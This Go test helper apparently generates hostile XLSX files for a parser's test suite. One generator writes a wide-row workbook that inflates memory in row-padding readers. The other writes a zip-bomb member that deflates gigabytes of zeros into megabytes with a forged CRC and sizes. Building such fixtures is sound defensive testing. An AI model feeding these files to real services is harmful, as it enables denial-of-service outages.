// Package hostile makes the attack files of issue 14 (and variants) on
// demand, so that tests and the generator in testdata/hostile write them
// instead of the repository holding large files. Every function writes a
// complete file to w; sizes are parameters so tests can scale them.
package hostile

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"fmt"
	"hash/crc32"
	"io"
	"strings"
)

// Part is one member of a workbook archive.
type Part struct {
	Name string
	Body string
}

// WorkbookParts returns the parts of a minimal valid workbook whose only
// sheet has the given <sheetData> content and whose styles declare the
// given number formats (cell style i+1 has format codes[i]; style 0 is
// General).
func WorkbookParts(sheetData string, codes []string, sharedStrings []string) []Part {
	var fmts, xfs strings.Builder
	xfs.WriteString(`<xf numFmtId="0"/>`)
	for i, c := range codes {
		id := 164 + i
		fmt.Fprintf(&fmts, `<numFmt numFmtId="%d" formatCode="%s"/>`, id, xmlEscape(c))
		fmt.Fprintf(&xfs, `<xf numFmtId="%d" applyNumberFormat="1"/>`, id)
	}
	var sst strings.Builder
	for _, s := range sharedStrings {
		fmt.Fprintf(&sst, "<si><t>%s</t></si>", xmlEscape(s))
	}
	return []Part{
		{"[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>`},
		{"_rels/.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{"xl/workbook.xml", `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`},
		{"xl/_rels/workbook.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`},
		{"xl/styles.xml", `<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><numFmts>` + fmts.String() + `</numFmts><cellXfs>` + xfs.String() + `</cellXfs></styleSheet>`},
		{"xl/sharedStrings.xml", `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">` + sst.String() + `</sst>`},
		{"xl/worksheets/sheet1.xml", `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` + sheetData + `</sheetData></worksheet>`},
	}
}

func xmlEscape(s string) string {
	var b bytes.Buffer
	for _, r := range s {
		switch r {
		case '<':
			b.WriteString("&lt;")
		case '>':
			b.WriteString("&gt;")
		case '&':
			b.WriteString("&amp;")
		case '"':
			b.WriteString("&quot;")
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

// WriteZip writes parts as a zip archive, each deflated.
func WriteZip(w io.Writer, parts []Part) error {
	zw := zip.NewWriter(w)
	for _, p := range parts {
		f, err := zw.Create(p.Name)
		if err != nil {
			return err
		}
		if _, err := io.WriteString(f, p.Body); err != nil {
			return err
		}
	}
	return zw.Close()
}

// WideRowsXLSX is the attack of a 100 KB workbook whose rows each hold one
// cell in the last column Excel has (XFD, the 16,384th): a reader that pads
// every row to its last cell holds rows x 16,384 cells (20,000 rows: 6.2
// GB with excelize's GetRows). col names the column ("XFD"), header adds a
// header row with one heading in that column.
func WideRowsXLSX(w io.Writer, rows int, col string) error {
	var b strings.Builder
	for r := 1; r <= rows; r++ {
		fmt.Fprintf(&b, `<row r="%d"><c r="%s%d"><v>%d</v></c></row>`, r, col, r, r)
	}
	return WriteZip(w, WorkbookParts(b.String(), nil, nil))
}

// JunkMemberXLSX is the attack of a small valid workbook carrying one more
// member (xl/media/junk.bin) of size zero bytes, really deflated: 4 GiB of
// zeros deflate to about 4 MB. The member is built from one compressed MiB
// repeated, so making it takes a second, not a minute.
func JunkMemberXLSX(w io.Writer, size int64) error {
	zw := zip.NewWriter(w)
	for _, p := range WorkbookParts(`<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row>`, nil, nil) {
		f, err := zw.Create(p.Name)
		if err != nil {
			return err
		}
		io.WriteString(f, p.Body)
	}
	const chunk = 1 << 20
	var seg bytes.Buffer
	fw, _ := flate.NewWriter(&seg, flate.BestCompression)
	zeros := make([]byte, chunk)
	fw.Write(zeros)
	fw.Flush() // a non-final block ending on a byte boundary: segments concatenate
	var tail bytes.Buffer
	tw, _ := flate.NewWriter(&tail, flate.BestCompression)
	tw.Close() // the final, empty block
	n := size / chunk
	crc := uint32(0)
	for i := int64(0); i < n; i++ {
		crc = crc32.Update(crc, crc32.IEEETable, zeros)
	}
	fh := &zip.FileHeader{Name: "xl/media/junk.bin", Method: zip.Deflate, CRC32: crc,
		CompressedSize64: uint64(n)*uint64(seg.Len()) + uint64(tail.Len()), UncompressedSize64: uint64(n * chunk)}
	raw, err := zw.CreateRaw(fh)
	if err != nil {
		return err
	}
	for i := int64(0); i < n; i++ {
		if _, err := raw.Write(seg.Bytes()); err != nil {
			return err
		}
	}
	if _, err := raw.Write(tail.Bytes()); err != nil {
		return err
	}
	return zw.Close()
}
